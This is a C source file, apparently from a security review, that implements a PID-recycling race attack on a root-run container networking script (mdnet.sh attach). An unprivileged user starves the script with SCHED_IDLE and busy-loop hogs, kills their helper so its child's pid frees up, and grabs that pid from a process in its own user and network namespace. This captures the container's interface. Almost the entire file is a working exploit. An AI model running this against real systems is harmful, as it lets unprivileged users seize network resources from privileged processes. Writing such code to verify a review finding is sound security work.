/* attachrace: the review's pid-recycling attack on `mdnet.sh attach`. A
 * student starts a container on the bridge with SCHED_IDLE on CPU 0 (the
 * container on CPU 1), and as soon as root's mdnet.sh appears:
 *   1. wakes HOGS busy loops on CPU 0, where mdnet.sh, SCHED_IDLE if it
 *      inherited the caller's policy and affinity, then barely runs;
 *   2. kills their helper (allowed if its real uid is the caller's), so the
 *      helper's child, whose pid mdnet.sh was given, ends and is reaped;
 *   3. has that pid taken by a process of theirs in a new user and network
 *      namespace (pidat's way: forks until the kernel's next pid is it);
 *   4. lets mdnet.sh run again, and lists the interfaces in their namespace.
 * If mdnet.sh names the namespace by the child's pid, the container's eth1
 * (and a port on the bridge) lands in a namespace the student owns.
 *
 * Usage: attachrace HOGS SECONDS PROG [ARG]...   (PROG: mdrun.sh --cpuset-cpus 1 ...)
 * Prints what happened, one line a step:
 *   mdnet.sh PID | no mdnet.sh
 *   killed HELPER | kill HELPER: ERROR
 *   recycled CHILD | not recycled CHILD
 *   iface NAME     (each interface in the recycled process's namespace)
 * Exit 0; 3 on an error of its own. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "runs.h"

static volatile int *stop; /* shared with the hogs */

static void on_cpu(int cpu)
{
	cpu_set_t one;

	CPU_ZERO(&one);
	CPU_SET(cpu, &one);
	if (sched_setaffinity(0, sizeof one, &one) < 0)
		perror("sched_setaffinity"), exit(3);
}

static int go_write = -1;

static pid_t hog(int go, time_t end)
{
	char c;
	pid_t pid = fork();

	if (pid != 0)
		return pid;
	close(go_write); /* EOF when the attacker is gone */
	on_cpu(0);
	if (read(go, &c, 1) != 1)
		_exit(0);
	while (!*stop && time(NULL) < end)
		;
	_exit(0);
}

/* "PID (comm) S PPID ...": the parent and name of pid, 0 if gone. */
static pid_t parent_of(pid_t pid, char *comm, size_t size)
{
	char path[64], buf[512], *open_, *close_;
	int fd, ppid = 0;
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = '\0';
	open_ = strchr(buf, '(');
	close_ = strrchr(buf, ')');
	if (!open_ || !close_ || sscanf(close_ + 2, "%*c %d", &ppid) != 1)
		return 0;
	*close_ = '\0';
	snprintf(comm, size, "%s", open_ + 1);
	return (pid_t)ppid;
}

/* Is word one of pid's arguments? */
static int has_arg(pid_t pid, const char *word)
{
	char buf[4096];
	int n = cmdline_of(pid, buf, sizeof buf);

	for (int i = 0; i < n; i += (int)strlen(buf + i) + 1)
		if (strcmp(buf + i, word) == 0)
			return 1;
	return 0;
}

/* The helper's children: its clone (still "mdhelper") and, once exec'd,
 * mdnet.sh attach (a student cannot see which script a root shell reads
 * through /dev/fd/4, but sees its arguments). */
static void find_children(int lastfd, pid_t helper, pid_t *child, pid_t *script, time_t end)
{
	char comm[64];

	*child = *script = 0;
	while (!*script && time(NULL) < end) {
		int top = last_pid(lastfd);
		for (pid_t p = top; p > helper && p > top - 64; p--) {
			if (parent_of(p, comm, sizeof comm) != helper)
				continue;
			if (strcmp(comm, "mdhelper") != 0 && has_arg(p, "attach"))
				*script = p;
			else if (!strcmp(comm, "mdhelper") && (!*child || p < *child))
				*child = p;
		}
		if (waitpid(helper, NULL, WNOHANG) == helper)
			return;
	}
}

static int alive(pid_t pid)
{
	return kill(pid, 0) == 0 || errno == EPERM;
}

static int unshare_errno = -1; /* of the process that took the pid */

/* recycle_pid's take: the next pid is target unless another process
 * takes it first; ours then sits in namespaces of its own, once it has
 * said it made them. */
static pid_t take(pid_t target, void *unused)
{
	int said[2], err = 0;
	pid_t pid;

	(void)unused;
	if (pipe(said) < 0)
		return -1;
	pid = fork();
	if (pid == 0) {
		close(said[0]);
		if (getpid() != target)
			_exit(0);
		if (unshare(CLONE_NEWUSER | CLONE_NEWNET) < 0)
			err = errno;
		if (write(said[1], &err, sizeof err) != (ssize_t)sizeof err || err)
			_exit(3);
		close(said[1]);
		for (;;)
			pause();
	}
	close(said[1]);
	if (pid == target && read(said[0], &err, sizeof err) == (ssize_t)sizeof err)
		unshare_errno = err;
	close(said[0]);
	if (pid > 0 && pid != target)
		waitpid(pid, NULL, 0);
	return pid;
}

static void list_interfaces(pid_t pid)
{
	char path[64], line[256];
	FILE *f;

	snprintf(path, sizeof path, "/proc/%d/net/dev", (int)pid);
	f = fopen(path, "r");
	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		char name[64];
		if (strchr(line, '|') || sscanf(line, " %63[^:]:", name) != 1)
			continue;
		printf("iface %s\n", name);
	}
	fclose(f);
}

int main(int argc, char **argv)
{
	struct sched_param idle = { 0 };
	struct timespec ms = { 0, 1000000 };
	int go[2], hogs, lastfd, ours;
	pid_t helper, child, script;
	time_t end;

	if (argc < 4)
		return 2;
	hogs = atoi(argv[1]);
	end = time(NULL) + atoi(argv[2]);
	stop = mmap(NULL, sizeof *stop, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	lastfd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
	if (stop == MAP_FAILED || lastfd < 0 || pipe(go) < 0)
		return perror("attachrace"), 3;
	*stop = 0;
	go_write = go[1];
	for (int i = 0; i < hogs; i++)
		hog(go[0], end);
	close(go[0]);
	on_cpu(1);
	setvbuf(stdout, NULL, _IOLBF, 0);
	helper = fork();
	if (helper == 0) {
		on_cpu(0);
		if (setpriority(PRIO_PROCESS, 0, 19) < 0 || sched_setscheduler(0, SCHED_IDLE, &idle) < 0)
			_exit(3);
		execvp(argv[3], argv + 3);
		_exit(127);
	}
	find_children(lastfd, helper, &child, &script, end);
	if (!script || !child) {
		puts("no mdnet.sh");
		*stop = 1;
		close(go[1]);
		waitpid(helper, NULL, 0);
		return 0;
	}
	for (int i = 0; i < hogs; i++)
		if (write(go[1], "g", 1) != 1)
			return 3;
	printf("mdnet.sh %d\n", (int)script);
	if (kill(helper, SIGKILL) < 0) {
		printf("kill %d: %s\n", (int)helper, strerror(errno));
	} else {
		printf("killed %d\n", (int)helper);
		waitpid(helper, NULL, 0);
	}
	while (alive(child) && time(NULL) < end)
		nanosleep(&ms, NULL);
	ours = !alive(child) && recycle_pid(lastfd, child, end, take, NULL);
	if (ours && unshare_errno)
		printf("recycled %d, but no namespaces of its own: %s\n", (int)child,
		       unshare_errno < 0 ? "no word from it" : strerror(unshare_errno));
	else
		printf("%s %d\n", ours ? "recycled" : "not recycled", (int)child);
	*stop = 1;
	/* mdnet.sh runs again: give it time to do what it was told. */
	for (int i = 0; i < 3000 && alive(script); i++)
		nanosleep(&ms, NULL);
	if (ours) {
		if (!unshare_errno)
			list_interfaces(child);
		kill(child, SIGKILL);
		waitpid(child, NULL, 0);
	}
	waitpid(helper, NULL, 0);
	return 0;
}
